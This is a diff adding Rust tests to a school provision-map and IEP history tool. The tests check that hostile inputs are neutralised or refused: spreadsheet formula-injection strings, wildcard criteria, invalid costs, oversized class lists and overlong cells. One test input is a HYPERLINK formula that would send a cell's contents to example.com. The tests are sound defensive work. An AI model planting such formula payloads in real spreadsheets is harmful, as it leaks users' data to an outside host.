@@ -681,3 +681,361 @@ fn escape_sequences_in_file_names_reach_the_terminal_escaped() {
         assert!(said.contains("plan\\u{1b}[2J"), "{args:?}: {said}");
     }
 }
+
+// 7. The provision map, the class list and the histories: text stays text, figures are
+// checked, and one pupil's trouble costs nobody else's document.
+
+use crate::provision::{COSTS, plan_of, provision_of, recalculated, rows, total_after, total_row};
+
+#[test]
+fn the_maps_csv_never_opens_plan_text_as_a_formula() {
+    let scratch = Scratch::new("hostile-csv-formulas");
+    let link = "=HYPERLINK(\"http://example.com/?\"&A2,\"open\")";
+    let plans = [
+        (
+            "a.yaml",
+            plan_of(
+                link,
+                Some("-1+2"),
+                &[("+SUM(1,2)", "@cmd", "3 x 20 minutes a week")],
+            ),
+        ),
+        (
+            "b.yaml",
+            plan_of(
+                "\tAmara",
+                Some("=2*3"),
+                &[("-Phonics", "=1+1", "daily, 10 minutes")],
+            ),
+        ),
+    ];
+    let (output, out) = provision_of(&scratch, &plans, &["--to", "csv,xlsx"]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let csv =
+        std::fs::read_to_string(out.join("provision-map.csv")).unwrap_or_else(|e| panic!("{e}"));
+    let rows = rows(&csv);
+    for cell in rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?} would be a formula:\n{csv}"
+        );
+    }
+    assert_eq!(rows[1][0], "'+SUM(1,2)", "{csv}");
+    assert_eq!(rows[1][7], format!("'{link}"), "{csv}");
+    // LibreOffice opens the CSV and keeps every cell as the text it is: no formula.
+    let profile = format!(
+        "-env:UserInstallation=file://{}/profile",
+        scratch.0.display()
+    );
+    let converted = Command::new("soffice")
+        .args(["--headless", &profile, "--convert-to", "xlsx", "--outdir"])
+        .arg(scratch.0.join("lo"))
+        .arg(out.join("provision-map.csv"))
+        .output()
+        .unwrap_or_else(|e| panic!("soffice did not run ({e})"));
+    assert!(
+        converted.status.success(),
+        "{}",
+        String::from_utf8_lossy(&converted.stderr)
+    );
+    let script = "import sys, openpyxl\nws = openpyxl.load_workbook(sys.argv[1]).active\nprint([c.value for r in ws.iter_rows() for c in r if c.data_type == 'f'])\n";
+    let opened =
+        std::fs::read(scratch.0.join("lo/provision-map.xlsx")).unwrap_or_else(|e| panic!("{e}"));
+    let (ok, formulas) = common::tool("python3", &["-c", script], &opened, "xlsx");
+    assert!(ok && formulas.trim() == "[]", "{formulas}");
+    // The XLSX holds them as text too.
+    let sheets = recalculated(&scratch, &out.join("provision-map.xlsx"));
+    assert!(sheets[0].1.contains("+SUM(1,2)"), "{}", sheets[0].1);
+}
+
+#[test]
+fn the_xlsx_totals_match_a_staff_role_or_year_group_exactly_whatever_it_says() {
+    let scratch = Scratch::new("hostile-exact-totals");
+    let costs = scratch.write("costs.yaml", COSTS);
+    let plans = [
+        (
+            "a.yaml",
+            plan_of(
+                "Amara Okafor",
+                Some("<>Q"),
+                &[("Phonics", "*", "3 x 20 minutes a week")],
+            ),
+        ),
+        (
+            "b.yaml",
+            plan_of(
+                "Oliver Nowak",
+                Some("Q"),
+                &[("Sound cards", "Teaching assistant", "4 x 15 minutes a week")],
+            ),
+        ),
+        (
+            "c.yaml",
+            plan_of(
+                "Zofia Nowak",
+                Some("Year 4"),
+                &[("Ruler", "?eaching assistant", "2 x 30 minutes a week")],
+            ),
+        ),
+        (
+            "d.yaml",
+            plan_of(
+                "Kacper Nowak",
+                Some("~Q"),
+                &[("Cards", "teaching assistant*", "daily, 12 minutes")],
+            ),
+        ),
+        (
+            "e.yaml",
+            plan_of(
+                "Isla Fraser",
+                Some("Year 4"),
+                &[("Word games", "class teacher", "4 x 15 minutes a week")],
+            ),
+        ),
+    ];
+    let (output, out) = provision_of(&scratch, &plans, &["--to", "xlsx,csv", "--costs", &costs]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let sheets = recalculated(&scratch, &out.join("provision-map.xlsx"));
+    let totals = rows(&sheets[2].1);
+    // Each role's and year group's own hours and minutes, not every row a criterion matches.
+    for (title, key, expected) in [
+        ("Staff role", "*", 1.0),
+        ("Staff role", "Teaching assistant", 1.0),
+        ("Staff role", "?eaching assistant", 1.0),
+        ("Staff role", "teaching assistant*", 1.0),
+        ("Year group", "<>Q", 60.0),
+        ("Year group", "Q", 60.0),
+        ("Year group", "~Q", 60.0),
+        ("Year group", "Year 4", 120.0),
+    ] {
+        assert_eq!(
+            total_after(&totals, title, key),
+            expected,
+            "{key}: {totals:?}"
+        );
+    }
+    // The spreadsheet's total agrees with the CSV's.
+    let csv =
+        std::fs::read_to_string(out.join("provision-map.csv")).unwrap_or_else(|e| panic!("{e}"));
+    let recalculated_total = total_row(&sheets[0].1);
+    assert!(
+        (recalculated_total[13] - total_row(&csv)[13]).abs() < 0.01,
+        "{csv}"
+    );
+}
+
+#[test]
+fn a_cell_longer_than_excel_holds_is_cut_with_a_word_and_the_map_is_written() {
+    let scratch = Scratch::new("hostile-long-cell");
+    // Five pupils of 8,000-character names on one provision: 40,000 characters of pupils.
+    let plans: Vec<(String, String)> = (0..5)
+        .map(|i| {
+            let name = format!("{} {i}", "Aleksandra-Wiśniewska ".repeat(360).trim_end());
+            (
+                format!("p{i}.yaml"),
+                plan_of(
+                    &name,
+                    Some("Year 4"),
+                    &[("Phonics", "Teaching assistant", "3 x 20 minutes a week")],
+                ),
+            )
+        })
+        .collect();
+    let plans: Vec<(&str, String)> = plans.iter().map(|(n, t)| (n.as_str(), t.clone())).collect();
+    let (output, out) = provision_of(&scratch, &plans, &["--to", "xlsx,csv,pdf"]);
+    // The PDF of such names runs past its pages and is not written: the spreadsheets are.
+    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
+    assert_says(
+        &output,
+        &[
+            "1 cell of provision-map.xlsx held more than a spreadsheet cell can",
+            "provision-map.pdf was not written",
+        ],
+    );
+    assert_eq!(files(&out), ["provision-map.csv", "provision-map.xlsx"]);
+    let script = "import sys, openpyxl\nwb = openpyxl.load_workbook(sys.argv[1])\nv = wb['Provision']['H2'].value\nprint(len(v.encode('utf-16-le')) // 2, v[-42:])\nprint(wb['Pupils'].max_row)\n";
+    let xlsx = std::fs::read(out.join("provision-map.xlsx")).unwrap_or_else(|e| panic!("{e}"));
+    let (ok, seen) = common::tool("python3", &["-c", script], &xlsx, "xlsx");
+    assert!(ok, "{seen}");
+    let (length, rest) = seen.split_once(' ').unwrap_or_default();
+    assert!(length.parse::<usize>().is_ok_and(|n| n <= 32_767), "{seen}");
+    assert!(
+        rest.starts_with("; and 1 more (each is on the Pupils sheet)\n6\n"),
+        "{seen}"
+    );
+    let csv =
+        std::fs::read_to_string(out.join("provision-map.csv")).unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(
+        rows(&csv)[1][7].matches("Aleksandra").count(),
+        5 * 360,
+        "the CSV has them all"
+    );
+}
+
+#[test]
+fn costs_that_are_no_sum_of_money_are_refused_at_their_line_and_nothing_is_written() {
+    for (line, at) in [
+        ("  teaching assistant: .nan\n", "costs.yaml:2:3"),
+        ("  teaching assistant: .inf\n", "costs.yaml:2:3"),
+        ("  teaching assistant: -14.50\n", "costs.yaml:2:3"),
+        ("  teaching assistant: 1e308\n", "costs.yaml:2:3"),
+    ] {
+        let scratch = Scratch::new("hostile-costs");
+        let costs = scratch.write(
+            "costs.yaml",
+            &format!("hourly_cost:\n{line}weeks_per_year: 39\n"),
+        );
+        let plans = [(
+            "a.yaml",
+            plan_of(
+                "Amara Okafor",
+                Some("Year 4"),
+                &[("Phonics", "Teaching assistant", "3 x 20 minutes a week")],
+            ),
+        )];
+        let (output, out) =
+            provision_of(&scratch, &plans, &["--to", "csv,xlsx", "--costs", &costs]);
+        assert_eq!(output.status.code(), Some(2), "{line}: {}", stderr(&output));
+        assert_says(
+            &output,
+            &[
+                "error[invalid-value]: an hourly cost must be a number of pounds from 0 to 1000",
+                at,
+            ],
+        );
+        assert!(!out.exists(), "{line}: nothing is written");
+    }
+    let scratch = Scratch::new("hostile-weeks");
+    let costs = scratch.write("costs.yaml", "weeks_per_year: .nan\n");
+    let plans = [(
+        "a.yaml",
+        plan_of(
+            "Amara Okafor",
+            Some("Year 4"),
+            &[("Phonics", "Teaching assistant", "3 x 20 minutes a week")],
+        ),
+    )];
+    let (output, _) = provision_of(&scratch, &plans, &["--to", "csv", "--costs", &costs]);
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+    assert_says(
+        &output,
+        &[
+            "costs.yaml:1:1",
+            "`weeks_per_year` must be a number of weeks from 1 to 53",
+        ],
+    );
+}
+
+#[test]
+fn a_class_list_of_a_hundred_thousand_rows_is_refused_at_once_and_no_plan_is_started() {
+    let scratch = Scratch::new("hostile-class-list");
+    let mut list = String::from("Name\n");
+    for i in 0..100_000 {
+        list += &format!("P{i}\n");
+    }
+    scratch.write("class.csv", &list);
+    let started = Instant::now();
+    let output = iep_limited(
+        &scratch.0,
+        "",
+        &["new", "--from", "class.csv", "--out", "plans"],
+        30,
+    );
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+    assert_says(
+        &output,
+        &[
+            "more than 5000 rows",
+            "export one year group or class at a time",
+        ],
+    );
+    assert!(
+        files(&scratch.0.join("plans")).is_empty(),
+        "no plan is started"
+    );
+    assert!(
+        started.elapsed() < Duration::from_secs(20),
+        "{:?}",
+        started.elapsed()
+    );
+}
+
+#[test]
+fn two_pupils_of_one_name_get_a_history_each_and_one_pupils_failure_stops_no_other() {
+    let scratch = Scratch::new("hostile-histories");
+    let born = |date: &str| {
+        common::CLEAN.replacen(
+            "  date_of_birth: 2017-04-12\n",
+            &format!("  date_of_birth: {date}\n"),
+            1,
+        )
+    };
+    scratch.write("sam-a.yaml", &born("2017-04-12"));
+    scratch.write("sam-b.yaml", &born("2018-02-03"));
+    scratch.write(
+        "amara.yaml",
+        &common::CLEAN.replacen("  name: Sam Example\n", "  name: Amara Okafor\n", 1),
+    );
+    scratch.write(
+        "zofia.yaml",
+        &common::CLEAN.replacen("  name: Sam Example\n", "  name: Zofia Nowak\n", 1),
+    );
+    // A folder where Amara's PDF would go: her documents cannot be written, the others can.
+    std::fs::create_dir_all(scratch.0.join("out/amara-okafor-history.pdf"))
+        .unwrap_or_else(|e| panic!("{e}"));
+    let output = iep_in(
+        &scratch.0,
+        &["history", ".", "--to", "pdf,docx", "--out", "out"],
+    );
+    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
+    let written: Vec<String> = files(&scratch.0.join("out"));
+    assert_eq!(
+        written,
+        [
+            "sam-example-2017-04-12-history.docx",
+            "sam-example-2017-04-12-history.pdf",
+            "sam-example-2018-02-03-history.docx",
+            "sam-example-2018-02-03-history.pdf",
+            "zofia-nowak-history.docx",
+            "zofia-nowak-history.pdf",
+        ]
+    );
+    assert_says(&output, &["amara-okafor-history.pdf"]);
+    let listed = stdout(&output);
+    for file in &written {
+        assert_eq!(
+            listed.matches(&format!("/{file}\n")).count(),
+            1,
+            "{file}: {listed}"
+        );
+    }
+    assert!(
+        listed.ends_with("4 plans of 4 pupils; 3 histories written, 1 not\n"),
+        "{listed}"
+    );
+}
+
+#[test]
+fn a_history_of_more_plans_than_a_school_life_is_refused_before_its_pages() {
+    let record = iep::cycle::PlanRecord {
+        created: iep::Date::from_ymd(2026, 9, 14),
+        review: iep::Date::from_ymd(2026, 12, 11),
+        targets: Vec::new(),
+        counts: iep::cycle::Counts::default(),
+    };
+    let history = |plans: usize| iep::History {
+        pupil: "Eilidh MacLeod".into(),
+        date_of_birth: None,
+        school: "Hillside Primary School".into(),
+        plans: vec![record.clone(); plans],
+        repeated: Vec::new(),
+        successful: Vec::new(),
+    };
+    let most = iep::cycle::MAX_PLANS_IN_HISTORY;
+    assert!(history(most).document().is_ok());
+    assert_eq!(
+        history(most + 1).document().err(),
+        Some(iep::cycle::TooManyPlans { plans: most + 1 })
+    );
+}
